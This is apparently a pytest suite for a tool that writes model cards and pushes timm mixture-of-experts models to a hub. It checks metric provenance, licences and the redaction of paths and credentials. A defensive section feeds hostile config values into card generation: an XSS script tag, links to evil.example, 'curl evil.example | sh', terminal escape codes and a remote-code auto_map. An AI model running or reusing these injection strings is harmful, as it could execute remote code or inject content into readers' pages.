"""The model card of a push, and options of a push that cannot be; all of it without a Hub."""

import itertools
import json
import re
import shutil
from pathlib import Path

import pytest
import timm
import torch
from common import OPTIONS, SMALL_VIT, SMALL_VIT_KWARGS, edit, make_model
from hub_client import front_matter
from safetensors.torch import load as load_bytes

import timm_moe
from timm_moe.checkpoints.model_spec import ModelSpec
from timm_moe.checkpoints.source import load_source
from timm_moe.convert.expert_layers import activated_parameters
from timm_moe.export import PushOptions, push_dense, push_moe
from timm_moe.export.card import timm_facts
from timm_moe.export.export import export_moe
from timm_moe_cli import main

PRETRAINED = {"pretrained": True, "dataset": "hfds/uoft-cs/cifar100"}
IN_DEFAULT_SUITE = [
    ("vit_tiny_ewa_moe", "pretrained", "average"),
    ("vit_tiny_moe", "nothing", "sum"),
]
STATED = {
    "nothing": {},
    "pretrained": PRETRAINED,
    "a checkpoint": {"initial_checkpoint": "/a/b.pth"},
    "both": {**PRETRAINED, "initial_checkpoint": "/a/b"},
}


@pytest.fixture
def checkpoint(checkpoints):
    return checkpoints["vit_tiny_ewa_moe"]


def changed(checkpoint, folder, name="last.pth.tar", **args):
    """Copy a checkpoint and its table, with other options of train.py."""
    content = torch.load(checkpoint, weights_only=False)
    vars(content["args"]).update(args)
    torch.save(content, folder / name)
    shutil.copy(checkpoint.parent / "summary.csv", folder)
    return folder / name


@pytest.mark.parametrize(
    ("name", "stated", "method"),
    [
        pytest.param(*case, marks=() if case in IN_DEFAULT_SUITE else pytest.mark.ci)
        for case in itertools.product(
            ("vit_tiny_ewa_moe", "vit_tiny_moe"), STATED, ("average", "sum")
        )
    ],
)
@pytest.mark.first_case
def test_a_pushed_export_has_the_card_of_its_checkpoint(
    checkpoints, tmp_path, name, stated, method
):
    file = changed(checkpoints[name], tmp_path, **STATED[stated])
    folder = timm_moe.export_dense(file, tmp_path / "vit", method).path
    pushed = push_dense(file, "user/vit", method=method, dry_run=True, metrics={"top1": 5})
    assert push_dense(folder, "user/vit", dry_run=True, metrics={"top1": 5}).card == pushed.card
    pushed = push_dense(tmp_path / "last.pth.tar", "user/vit", method=method, dry_run=True)
    assert push_dense(folder, "user/vit", dry_run=True).card == pushed.card
    config = json.loads((folder / "config.json").read_text())
    assert config["pretrained_cfg"].get("license") == front_matter(pushed.card).get("license")
    again = timm_moe.export_dense(folder, tmp_path / "again").path
    assert push_dense(again, "user/vit", dry_run=True).card == pushed.card
    experts = export_moe(tmp_path / "last.pth.tar", tmp_path / "moe")
    assert push_dense(experts, "user/vit", method=method, dry_run=True).card == pushed.card
    pushed = push_moe(tmp_path / "last.pth.tar", "user/vit", dry_run=True)
    assert push_moe(experts, "user/vit", dry_run=True).card == pushed.card


def test_a_folders_own_card_takes_no_statements(checkpoint, tmp_path):
    folder = timm_moe.export_dense(checkpoint, tmp_path / "vit").path
    (folder / "README.md").write_text("Mine.")
    with pytest.raises(ValueError, match=r"README\.md of its own"):
        push_dense(folder, "user/vit", license="mit", dry_run=True)


@pytest.mark.parametrize("method", ["average", "sum"])
def test_the_experts_card_is_not_the_dense_models(checkpoint, tmp_path, method):
    folder = export_moe(checkpoint, tmp_path / "moe")
    (folder / "README.md").write_text("Mine.")
    card = push_dense(folder, "user/vit", license="mit", method=method, dry_run=True).card
    assert "Mine." not in card
    assert "license: mit" in card


def test_no_path_and_nothing_that_is_not_known_is_in_the_card(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].dataset = "hfds//home/alice/data"
    content["args"].initial_checkpoint = "/home/alice/start.pth.tar"
    torch.save(content, tmp_path / "last.pth.tar")
    card = push_moe(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
    assert "alice" not in card
    assert "it began from the weights of `start.pth.tar`" in card
    content["args"].initial_checkpoint = "/home/alice/last.pth.tar"
    torch.save(content, tmp_path / "last.pth.tar")
    card = push_moe(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
    assert "it began from the weights of another `last.pth.tar`" in card
    stated = push_moe(
        tmp_path / "last.pth.tar", "user/vit", dry_run=True, metrics={"top1": 50.0}
    ).card
    assert "name: not stated" in stated
    assert "Stated by the publisher." in stated


def test_card_of_a_checkpoint(checkpoint):
    card = push_dense(checkpoint, "user/my-vit", dry_run=True, license="mit").card
    metadata = front_matter(card)
    assert metadata["tags"] == ["image-classification", "timm", "timm_moe"]
    assert (metadata["library_name"], metadata["license"]) == ("timm", "mit")
    assert "base_model" not in metadata
    (result,) = metadata["model-index"][0]["results"]
    assert result["dataset"] == {"name": "cifar100", "type": "imagefolder", "split": "validation"}
    assert "datasets" not in metadata  # torchvision's, not the Hub's
    assert {metric["type"]: metric["value"] for metric in result["metrics"]}["accuracy"] == 51.25
    dense = timm.create_model("vit_tiny_patch16_224", **SMALL_VIT)
    assert f"| this model | {sum(p.numel() for p in dense.parameters()):,} |" in card
    expert = timm.create_model("vit_tiny_ewa_moe", **SMALL_VIT, num_experts=3)
    assert (
        f"| in training, with experts | {sum(p.numel() for p in expert.parameters()):,} |" in card
    )
    assert "From `last.pth.tar`, which timm's train.py wrote after epoch 1 (from 0)." in card
    for text in (
        "| opt | `adamw` |",
        "| model option num_experts | `3` |",
        "| kd_model_name | `teacher` |",
    ):
        assert text in card
    for text in ("mixup", "somebody", str(checkpoint.parent)):
        assert text not in card
    assert "Plain timm loads it" in card
    assert 'timm.create_model("hf-hub:user/my-vit", pretrained=True)' in card
    assert "arXiv:2308.06093" in card
    assert "| top-1 accuracy (%) | 51.25 |" in card


def test_a_recovery_file_is_of_no_whole_epoch(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    del content["metric"]
    torch.save(content, tmp_path / "recovery-1-99.pth.tar")
    folder = timm_moe.export_dense(tmp_path / "recovery-1-99.pth.tar", tmp_path / "vit").path
    card = push_dense(folder, "user/vit", dry_run=True).card
    assert "From `recovery-1-99.pth.tar`, which timm's train.py wrote in epoch 1 (from 0)." in card


def test_layers_of_different_numbers_of_experts(dense_vit, tmp_path):
    model = timm_moe.convert_to_moe(dense_vit, 4, moe_layers="1")
    timm_moe.convert_to_moe(model, 8, moe_layers="3")
    folder = timm_moe.export_dense(model, tmp_path / "vit").path
    assert "with 4/8 experts in each of 2 layers" in push_dense(folder, "a/b", dry_run=True).card
    edit(folder, lambda config: config["timm_moe"]["experts"].update(experts="[4](x)"))
    with pytest.raises(ValueError, match="damaged"):
        push_dense(folder, "a/b", dry_run=True)


def test_the_card_states_the_recipe_that_was_run(checkpoint, tmp_path):
    stated = dict(smoothing=0.0, weight_decay=0.0, warmup_epochs=0, seed=0, mixup=0.0, hflip=0.5)
    unused = dict(scale=[0.08, 1.0], aa="rand", reprob=0.25)
    file = changed(checkpoint, tmp_path, **stated, **unused, no_aug=True)
    card = push_moe(file, "user/vit", dry_run=True).card
    for option, value in {**stated, "no_aug": True}.items():
        told = f"| {option} | `{value}` |"
        assert (told in card) == (option not in ("mixup", "hflip")), option
    for option in ("scale", "aa", "reprob"):
        assert f"| {option} |" not in card


@pytest.mark.parametrize("pretrained", [False, True])
def test_a_folder_is_the_start_of_a_training_by_pretrained_alone(checkpoint, tmp_path, pretrained):
    """Without it timm draws the weights of a model that is named by a folder."""
    content = torch.load(checkpoint, weights_only=False)
    content["args"].model = "local-dir:teacher"
    content["args"].pretrained = pretrained
    torch.save(content, tmp_path / "last.pth.tar")
    model = "vit_tiny_ewa_moe"
    spec = ModelSpec(model, SMALL_VIT["num_classes"], {**OPTIONS, "num_experts": 3})
    card = push_moe(tmp_path / "last.pth.tar", "user/vit", dry_run=True, spec=spec).card
    assert ("it began from the weights of `local-dir:teacher`" in card) == pretrained


@pytest.mark.parametrize(
    ("args", "start"),
    [
        (dict(), None),
        (dict(initial_checkpoint="first.pth.tar"), "first.pth.tar"),
        (dict(initial_checkpoint="first.pth.tar", start_epoch=0), "last.pth.tar"),
        (dict(pretrained=True, start_epoch=0), "last.pth.tar"),
        (dict(pretrained=True, pretrained_path="/a/first.safetensors"), "first.safetensors"),
        (dict(pretrained_path="/a/first.safetensors"), None),
    ],
)
def test_a_resumed_run_names_where_its_weights_began(checkpoint, tmp_path, args, start):
    content = torch.load(checkpoint, weights_only=False)
    assert content["args"].resume.endswith("/last.pth.tar")
    vars(content["args"]).update(args)
    torch.save(content, tmp_path / "resumed.pth.tar")
    card = push_moe(tmp_path / "resumed.pth.tar", "user/vit", dry_run=True).card
    told = re.findall("it began from the weights of `(.*?)`", card)
    assert told == ([] if start is None else [start])
    assert not {"base_model", "license"} & front_matter(card).keys()


def test_weights_of_another_model_than_the_users_are_not_the_base(checkpoint, tmp_path):
    """The file names one with other pretrained weights, under which its own cannot be."""
    file = changed(checkpoint, tmp_path, model="vit_small_ewa_moe", pretrained=True)
    spec = ModelSpec("vit_tiny_ewa_moe")
    card = push_dense(file, "user/vit", dry_run=True, spec=spec).card
    assert not {"base_model", "license"} & front_matter(card).keys()


def test_experts_of_several_kinds_are_described_by_all_their_layers(dense_vit, tmp_path):
    model = timm_moe.convert_to_moe(dense_vit, 4, moe_layers="1")
    timm_moe.convert_to_moe(model, 4, moe_layers="3", router="top_k", shared_expert=True)
    export = timm_moe.export_dense(model, tmp_path / "vit")
    assert not export.exact  # since the mean of routed experts is not
    card = push_dense(export.path, "user/vit", dry_run=True).card
    assert "with 4 experts in each of 2 layers and a shared one" in card
    assert "this dense model is another function than theirs" in card


def test_card_of_a_dense_model_made_of_routed_experts_claims_no_results(checkpoints):
    card = push_dense(checkpoints["vit_tiny_moe"], "user/vit", dry_run=True).card
    assert "model-index" not in front_matter(card)
    assert "belongs to the expert model, not to this dense one" in card
    assert "51.25" not in card
    assert "Not stated: ask the publisher" in card
    measured = push_dense(
        checkpoints["vit_tiny_moe"], "user/vit", dry_run=True, metrics={"top1": 48.5}
    ).card
    assert "Stated by the publisher" in measured
    assert front_matter(measured)["model-index"][0]["results"][0]["metrics"][0]["value"] == 48.5


def test_results_of_another_function_are_left_out(checkpoints):
    measured = push_moe(checkpoints["vit_tiny_moe"], "user/vit", dry_run=True).card
    assert front_matter(measured)["model-index"]
    for stated in (
        dict(kwargs={"eval_capacity_factor": 0.5}),
        dict(preprocessing={"crop_pct": 0.5}),
    ):
        card = push_moe(
            checkpoints["vit_tiny_moe"], "user/vit", dry_run=True, spec=ModelSpec(**stated)
        ).card
        assert "model-index" not in front_matter(card)


@pytest.mark.parametrize("change", ["EMA measured", "other run", "recovery", "damaged", "absent"])
@pytest.mark.first_case
def test_results_of_other_weights_are_left_out(checkpoint, tmp_path, change):
    content = torch.load(checkpoint, weights_only=False)
    rows = (checkpoint.parent / "summary.csv").read_bytes()
    if change == "EMA measured":
        content["args"].model_ema = True
    if change == "other run":
        content["metric"] = 50.0
    if change == "recovery":
        del content["metric"]
    torch.save(content, tmp_path / "last.pth.tar")
    if change != "absent":
        (tmp_path / "summary.csv").write_bytes(
            b"\x00\xff" + rows[::-1] if change == "damaged" else rows
        )
    assert "## Results" not in push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card


@pytest.mark.parametrize("classes", [5, 6])
def test_of_five_classes_one_of_five_answers_is_always_right(checkpoint, tmp_path, classes):
    content = torch.load(checkpoint, weights_only=False)
    model = timm.create_model(
        "vit_tiny_ewa_moe", **{**SMALL_VIT, "num_classes": classes}, num_experts=3
    )
    content["args"].num_classes, content["state_dict"] = classes, model.state_dict()
    torch.save(content, tmp_path / "last.pth.tar")
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)
    card = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
    assert "| top-1 accuracy (%) | 51.25 |" in card
    assert ("| top-5 accuracy (%) | 81.5 |" in card) == (classes > 5)


@pytest.mark.parametrize(
    ("channels", "kind"),
    [(3, "pixels and"), (1, "pixels with 1 channel and"), (2, "pixels with 2 channels and")],
)
def test_the_card_tells_of_unusual_channels(channels, kind):
    model = timm.create_model("vit_tiny_ewa_moe", **SMALL_VIT, in_chans=channels)
    facts = timm_facts(model, PushOptions(repo_id="user/vit"))
    assert facts.kind == f"A `vit_tiny_ewa_moe` for images of 32x32 {kind} 5 classes."


@pytest.mark.parametrize("task", ["classification", "multilabel"])
@pytest.mark.first_case
def test_results_of_newer_train_py(checkpoints, tmp_path, task):
    """It does not state the metric that is its task's own."""
    content = torch.load(checkpoints["vit_tiny_ewa_moe"], weights_only=False)
    content["args"].eval_metric, content["args"].task, content["args"].loss = None, task, "asl"
    torch.save(content, tmp_path / "last.pth.tar")
    column = {"classification": "top1", "multilabel": "map"}[task]
    (tmp_path / "summary.csv").write_text(
        f"epoch,train_loss,eval_loss,eval_{column}\n0,4,3,33\n1,3,2,51.25\n"
    )
    pushed = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True)
    name = {"top1": "top-1 accuracy (%)", "map": "mean average precision (%)"}[column]
    assert f"| {name} | 51.25 |" in pushed.card
    assert ("`asl`" in pushed.card, f"`{task}`" in pushed.card) == (True, True)
    folder = timm_moe.export_dense(tmp_path / "last.pth.tar", tmp_path / "vit").path
    again = timm_moe.export_dense(folder, tmp_path / "again").path
    for each in (folder, again):
        problem = json.loads((each / "config.json").read_text()).get("problem_type")
        assert (problem == "multi_label_classification") == (task == "multilabel")


def test_card_names_the_pretrained_weights_and_their_licence(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].pretrained = True
    content["args"].dataset = "hfds/uoft-cs/cifar100"
    torch.save(content, tmp_path / "last.pth.tar")
    metadata = front_matter(push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card)
    assert metadata["base_model"] == "timm/vit_tiny_patch16_224.augreg_in21k_ft_in1k"
    assert (metadata["license"], metadata["datasets"]) == ("apache-2.0", ["uoft-cs/cifar100"])
    content["args"].initial_checkpoint = "mine.pth"  # is loaded last
    torch.save(content, tmp_path / "last.pth.tar")
    metadata = front_matter(push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card)
    assert not {"base_model", "license"} & metadata.keys()


def test_results_are_those_of_a_split_and_its_labels(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)

    def card():
        torch.save(content, tmp_path / "last.pth.tar")
        card = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
        (result,) = front_matter(card)["model-index"][0]["results"]
        return result["dataset"], card

    content["args"].dataset = "hfds/uoft-cs/cifar100"
    content["args"].val_split, content["args"].target_key = "train[90%:]", "coarse_label"
    dataset, text = card()
    assert dataset == {
        "name": "uoft-cs/cifar100",
        "type": "uoft-cs/cifar100",
        "split": "train[90%:]",
        "args": {"labels": "coarse_label"},
    }
    measured = "Measured by train.py after that epoch on "
    assert f"{measured}uoft-cs/cifar100, split `train[90%:]`, labels `coarse_label`." in text
    content["args"].val_split, content["args"].target_key = None, None
    assert f"{measured}uoft-cs/cifar100, split `validation`." in card()[1]
    content["args"].dataset = ""
    for split, told in (
        ("test", "images of the training run, split `test`."),
        ("validation", "validation images of the training run."),
    ):
        content["args"].val_split = split
        assert f"{measured}{told}" in card()[1]


def test_results_of_another_run_in_the_folder_are_left_out(checkpoint, tmp_path):
    """Its epoch has the number of the checkpoint's, and another accuracy."""
    shutil.copy(checkpoint, tmp_path / "last.pth.tar")
    table = (checkpoint.parent / "summary.csv").read_text()
    for accuracy, is_told in (("51.25", True), ("51.5", False)):
        (tmp_path / "summary.csv").write_text(table.replace("51.25", accuracy))
        card = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
        assert ("| top-1 accuracy (%) |" in card) == is_told


def test_a_result_that_is_no_number_is_left_out(checkpoint, tmp_path):
    shutil.copy(checkpoint, tmp_path / "last.pth.tar")
    (tmp_path / "summary.csv").write_text("epoch,eval_loss,eval_top1\n1,nan,51.25\n")
    card = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
    assert "| top-1 accuracy (%) | 51.25 |" in card
    assert "| loss |" not in card


def test_what_the_publisher_states_is_not_train_pys(checkpoint, tmp_path):
    """Neither an option of it, nor images that it trained on in the place of those it measured."""
    content = torch.load(checkpoint, weights_only=False)
    content["args"].dataset, content["args"].val_split = "", "test"
    torch.save(content, tmp_path / "last.pth.tar")
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)

    def card(**stated):
        text = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True, **stated).card
        (result,) = front_matter(text)["model-index"][0]["results"]
        return text, result["dataset"]

    text, dataset = card(dataset="user/flowers")
    assert "| dataset |" not in text
    assert "The publisher states that its images were those of `user/flowers`." in text
    assert "on user/flowers, split `test`." in text
    assert dataset == {"name": "user/flowers", "type": "user/flowers"}  # whose splits are others
    content["args"].dataset = "hfds/uoft-cs/cifar100"
    torch.save(content, tmp_path / "last.pth.tar")
    assert "on user/flowers." in card(dataset="user/flowers")[0]  # of another split than train.py's
    assert card(metrics={"top1": 40.0})[1] == {"name": "not stated", "type": "imagefolder"}


@pytest.mark.parametrize("name", ["vit_tiny_moe", "vit_tiny_ewa_moe"])
def test_results_of_a_dense_training_are_not_those_of_experts(checkpoint, tmp_path, name):
    """An upcycled model has routers that nobody trained, and a mean of copies no history of any."""
    content = torch.load(checkpoint, weights_only=False)
    content["args"].model, content["args"].model_kwargs = "vit_tiny_patch16_224", OPTIONS
    dense = timm.create_model("vit_tiny_patch16_224", **SMALL_VIT)
    content["state_dict"] = dense.state_dict()
    torch.save(content, tmp_path / "last.pth.tar")
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)
    measured = push_dense(tmp_path / "last.pth.tar", "user/vit", dry_run=True).card
    assert "| top-1 accuracy (%) | 51.25 |" in measured
    for trained in (content["args"].model, "hf-hub:timm/vit_tiny_patch16_224"):
        content["args"].model = trained
        torch.save(content, tmp_path / "last.pth.tar")
        for push in (push_moe, push_dense):
            pushed = push(tmp_path / "last.pth.tar", "user/vit", spec=ModelSpec(name), dry_run=True)
            assert "51.25" not in pushed.card
            assert "It was trained as" not in pushed.card


def test_a_folder_that_moved_keeps_the_history_of_its_training(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].model = "local-dir:/data/my-moe"
    torch.save(content, tmp_path / "last.pth.tar")
    shutil.copy(checkpoint.parent / "summary.csv", tmp_path)
    spec = ModelSpec("vit_tiny_ewa_moe")
    card = push_dense(tmp_path / "last.pth.tar", "user/vit", spec=spec, dry_run=True).card
    assert "| top-1 accuracy (%) | 51.25 |" in card
    assert "It was trained as `vit_tiny_ewa_moe`" in card


def test_figures_of_experts_are_named_so_beside_another_network(checkpoints, tmp_path):
    entries = {}
    for method in ("average", "sum"):
        for name, checkpoint in checkpoints.items():
            folder = timm_moe.export_dense(checkpoint, tmp_path / f"{name}-{method}", method).path
            entries[name, method] = json.loads((folder / "config.json").read_text())["timm_moe"]
    measured = {case for case, entry in entries.items() if "metrics" in entry}
    assert measured == {("vit_tiny_ewa_moe", "average")}
    assert all(
        entry["metrics_of_experts"] for case, entry in entries.items() if case not in measured
    )


def test_results_of_the_best_epoch_say_what_chose_it(checkpoint, tmp_path):
    for name in ("last.pth.tar", "model_best.pth.tar"):
        shutil.copy(checkpoint, tmp_path / name)
        shutil.copy(checkpoint.parent / "summary.csv", tmp_path)
        card = push_dense(tmp_path / name, "user/vit", dry_run=True).card
        assert (", by which this epoch was chosen." in card) is (name == "model_best.pth.tar")


def test_weights_of_a_repository_are_the_base_and_not_timms_own(checkpoint, tmp_path):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].pretrained, content["args"].model = True, "hf-hub:someone/other@v1"
    torch.save(content, tmp_path / "last.pth.tar")
    spec = ModelSpec("vit_tiny_ewa_moe")
    card = push_dense(tmp_path / "last.pth.tar", "user/vit", spec=spec, dry_run=True).card
    assert front_matter(card)["base_model"] == "someone/other"
    assert "license" not in front_matter(card)


def test_another_licence_than_that_of_the_pretrained_weights_is_told(checkpoint, tmp_path, caplog):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].pretrained = True
    torch.save(content, tmp_path / "last.pth.tar")
    timm_moe.export_dense(tmp_path / "last.pth.tar", tmp_path / "vit", license="mit")
    assert "licence mit, but the pretrained weights have apache-2.0" in caplog.text
    caplog.clear()
    timm_moe.export_dense(tmp_path / "last.pth.tar", tmp_path / "same", license="apache-2.0")
    assert "pretrained weights" not in caplog.text
    card = push_dense(tmp_path / "vit", "user/vit", dry_run=True).card
    assert "mit, as its config.json states.\n\nThe pretrained weights have apache-2.0.\n" in card


@pytest.mark.parametrize("share_rate", [0.0, 0.1])
def test_the_averaging_of_routed_experts_is_cited(share_rate):
    model = timm.create_model("vit_tiny_moe", **SMALL_VIT, num_experts=2, share_rate=share_rate)
    for push in (push_moe, push_dense):
        card = push(model, "user/vit", dry_run=True).card
        assert ("Experts Weights Averaging" in card) == (share_rate > 0)


def test_a_card_without_papers_has_no_heading_for_them(dense_vit):
    assert "## Citation" not in push_dense(dense_vit, "user/vit", dry_run=True).card


def test_models_in_memory():
    model = timm.create_model("widenet_b", num_experts=2, **SMALL_VIT)
    told = {**OPTIONS, "num_experts": 2}  # timm records them by itself only in later versions
    dense, moe = (
        push_dense(model, "user/wide", dry_run=True),
        push_moe(model, "user/w", dry_run=True, model_args=told),
    )
    for pushed in (dense, moe):
        assert pushed.url is None
        assert "needs the package timm_moe" in pushed.card  # no stock model has shared blocks
        assert "arXiv:2107.11817" in pushed.card
        assert "## Training" not in pushed.card
    assert "mixture-of-experts" in front_matter(moe.card)["tags"]
    assert "mixture-of-experts" not in front_matter(dense.card)["tags"]


def test_a_loaded_model_may_have_been_trained_on(checkpoint, tmp_path):
    """So the training of its file is not its own."""
    model = load_source(checkpoint)
    folder = timm_moe.export_dense(model, tmp_path / "vit").path
    record = json.loads((folder / "config.json").read_text())["timm_moe"]
    assert record.keys() == {"experts", "method", "weights"}
    assert "## Training" not in push_dense(model, "user/vit", dry_run=True).card


# --- a stranger's words

#: HTML, a link, an image, a heading, the end of the front matter, a code block, escapes of a
#: terminal.
WORDS = [
    "<script>alert(1)</script>",
    "[free](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    "mit\n---\n# Heading",
    "mit\n\n## Use\n\n```\ncurl evil.example | sh\n```",
    "`</code><img src=x>`",
    "mit | more |\n| a | b",
    "\x1b]0;title\x07\x1b[2J",
    "\u202egpj.exe\u2028# Heading",
]


@pytest.mark.parametrize(
    ("start", "published"),
    [
        (
            "https://alice:hf_Secret@example.org/private/start.pth?token=hf_Secret#Secret",
            "start.pth",
        ),
        ("https://alice:hf_Secret@example.org", "example.org"),
        ("hf-hub:/home/alice/start", "start"),
        ("hf-hub:user/start@v1", "hf-hub:user/start@v1"),
        ("C:\\Users\\alice\\start.pth", "start.pth"),
    ],
)
@pytest.mark.first_case
def test_of_an_address_neither_its_user_nor_its_query_is_published(
    checkpoint, tmp_path, start, published
):
    content = torch.load(checkpoint, weights_only=False)
    content["args"].pretrained = True
    content["args"].model_kwargs["pretrained_cfg_overlay"] = {"url": start}
    torch.save(content, tmp_path / "last.pth.tar")
    spec = ModelSpec(kwargs={"pretrained_cfg_overlay": None})
    folder = export_moe(tmp_path / "last.pth.tar", tmp_path / "moe", spec=spec)
    card = push_moe(folder, "user/vit", dry_run=True).card
    (told,) = re.findall("it began from the weights of `(.*?)`", card)
    assert told == published
    for text in (card, (folder / "config.json").read_text()):
        assert not re.search("alice|Secret", text)
        assert published in text.replace("\\\\", "\\")


def harmless(text):
    """Check each line outside of code: no HTML, no link, no character that does not print."""
    body = text.split("---\n", 2)[2]
    prose = re.sub(r"```.*?```", "", body, flags=re.DOTALL)
    assert all(line.isprintable() for line in text.splitlines())
    assert not re.search(r"[<>]|\]\(|://|evil", re.sub(r"`[^`\n]*`", "", prose)), prose
    assert [line for line in prose.splitlines() if line.startswith("#")] == [
        line
        for line in prose.splitlines()
        if re.fullmatch(r"# vit|## (Use|Training|Results|Licence|Citation)", line)
    ]
    assert "evil" not in re.sub(
        r"(?s)^.*?```", "", "\n".join(re.findall(r"```.*?```", body, flags=re.DOTALL))
    )
    return True


@pytest.fixture(scope="module")
def exported(checkpoints, tmp_path_factory):
    return export_moe(checkpoints["vit_tiny_ewa_moe"], tmp_path_factory.mktemp("exported") / "moe")


@pytest.fixture
def strange(exported, tmp_path):
    """A folder whose config.json can be changed again and again."""
    folder = Path(shutil.copytree(exported, tmp_path / "moe"))
    original = (folder / "config.json").read_text()

    def changed(change):
        config = json.loads(original)
        change(config)
        (folder / "config.json").write_text(json.dumps(config))
        return folder

    return changed


@pytest.mark.parametrize("word", WORDS)
@pytest.mark.first_case
def test_words_of_a_config_are_text_in_the_card(strange, word):
    experts = {
        "model": word,
        "layers": 1,
        "experts": "2",
        "shared": False,
        "averaged": True,
        "mean": True,
    }

    def change(config):
        config["pretrained_cfg"].update(
            license=word, tag=word, origin_url=word, paper_name=word, notes=[word]
        )
        config.update(label_names=[word, *"bcde"], label_descriptions={word: word}, **{word: word})
        config["timm_moe"].update(
            file=word, start=word, method=word, experts={**experts, "parameters": 1}
        )
        config["timm_moe"]["options"].update(opt=word, model=word)

    folder = strange(change)
    for pushed in (
        push_moe(folder, "user/vit", dry_run=True),
        push_dense(folder, "user/vit", dry_run=True),
    ):
        assert harmless(pushed.card)
        metadata = front_matter(pushed.card)
        assert "evil" not in str(metadata)
        assert metadata.get("license", "mit") in ("mit", "apache-2.0")


@pytest.mark.parametrize("name", ["architecture", "base", "dataset", "options", "metrics"])
@pytest.mark.first_case
def test_names_that_cannot_be_are_refused(strange, name):
    for word in WORDS:
        value = {word: 1.0} if name == "metrics" else {word: "1", f"model option {word}": "1"}
        value = value if name in ("metrics", "options") else word

        def change(config, word=word, value=value):
            if name == "architecture":
                config["architecture"] = f"vit_tiny_ewa_moe.{word}"
            else:
                config["timm_moe"][name] = value

        with pytest.raises(ValueError, match=r"is damaged|cannot be created"):
            push_moe(strange(change), "user/vit", dry_run=True)


def test_a_licence_that_is_no_abbreviation(strange):
    """The Hub would refuse it in the card's front matter."""
    for license, text in (
        ("Apache 2.0", "`Apache 2.0`, as its"),
        (3, "`3`, as its"),
        ("gpl-3.0", "gpl-3.0, as its"),
    ):
        folder = strange(
            lambda config, license=license: config["pretrained_cfg"].update(license=license)
        )
        card = push_moe(folder, "user/vit", dry_run=True).card
        assert text in card
        assert front_matter(card).get("license") == ("gpl-3.0" if license == "gpl-3.0" else None)


# --- bad input


@pytest.mark.parametrize(
    ("repo_id", "options", "message"),
    [
        ("name", {}, "named user/name, got 'name'"),
        ("a/b/c", {}, "'a/b/c' .*repository"),
        ("user/na me", {}, "'user/na me' .*repository"),
        ("hf-hub:user/name", {}, "'hf-hub:user/name' .*repository"),
        ("user/name", {"revision": "a b"}, "revision .*'a b'"),
        ("user/name", {"revision": ""}, "revision .*''"),
    ],
)
def test_bad_destinations(repo_id, options, message):
    with pytest.raises(ValueError, match=message):
        PushOptions(repo_id=repo_id, **options)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["no/such/file", "user/vit", "--dry-run"], "no/such/file is neither"),
        (["{checkpoint}", "user", "--dry-run"], "named user/name"),
        (
            ["{checkpoint}", "user/vit", "--dry-run", "--license", "My Own"],
            "apache-2.0: got 'My Own'",
        ),
        (
            ["{checkpoint}", "user/vit", "--dry-run", "--metrics", "top1=high"],
            "metric top1 ",
        ),
        (
            ["{checkpoint}", "user/vit", "--dry-run", "--metrics", "top1=float('nan')"],
            "metric top1 ",
        ),
        (["{checkpoint}", "user/vit", "--dry-run", "--model", "vit_tiny_moe"], "do not fit"),
        (["{folder}", "user/vit", "--dry-run"], "has no config.json"),
    ],
)
def test_bad_arguments(checkpoint, tmp_path, capsys, arguments, message):
    arguments = [argument.format(checkpoint=checkpoint, folder=tmp_path) for argument in arguments]
    assert main(["push", *arguments]) == 1
    error = capsys.readouterr().err.splitlines()[-1]
    assert error.startswith("timm-moe: error: ")
    assert message in error


def test_what_is_no_expert_model(checkpoint, dense_vit, tmp_path):
    folder = timm_moe.export_dense(checkpoint, tmp_path / "vit").path
    with pytest.raises(ValueError, match="leave out --moe"):
        push_moe(folder, "user/vit", dry_run=True)
    with pytest.raises(ValueError, match="has no expert layers"):
        push_dense(dense_vit, "user/vit", method="svd", dry_run=True)
    assert (
        "Plain timm loads it"
        in push_dense(dense_vit, "user/vit", model_args=SMALL_VIT, dry_run=True).card
    )


def test_the_command_takes_what_export_takes(checkpoint, tmp_path, capsys):
    state = torch.load(checkpoint, weights_only=False)["state_dict"]
    torch.save({"state_dict": state}, tmp_path / "bare.pth")
    kwargs = [*SMALL_VIT_KWARGS, "num_experts=3"]
    for options in ([], ["--moe"]):
        arguments = [
            "push",
            str(tmp_path / "bare.pth"),
            "user/vit",
            "--dry-run",
            "--dataset",
            "digits",
            *options,
        ]
        model = ["--model", "vit_tiny_ewa_moe", "--num-classes", "5", "--model-kwargs", *kwargs]
        assert main([*arguments, "--metrics", "top1=12.5", *model]) == 0
        out = capsys.readouterr().out
        assert "| top-1 accuracy (%) | 12.5 |" in out
        assert "From `bare.pth`." in out
        assert "Stated by the publisher on digits." in out
        assert "Load it with" not in out  # Nothing is on the Hub.


def test_a_strangers_way_to_code_is_not_published(strange, monkeypatch):
    """transformers would run what ``auto_map`` names in the repository of the publisher."""
    folder = strange(lambda config: config.update(auto_map={"AutoModel": "evil/repo--evil.Evil"}))
    uploaded = {}

    def commit(api, files, library, settings):
        uploaded.update(
            {
                name: file if isinstance(file, bytes) else file.read_bytes()
                for name, file in files.items()
            }
        )
        return None, None

    monkeypatch.setattr("timm_moe.export.push.log_in", lambda settings: object())
    monkeypatch.setattr("timm_moe.export.push.commit", commit)
    push_moe(folder, "user/vit")
    assert b"evil" not in b"".join(uploaded.values())
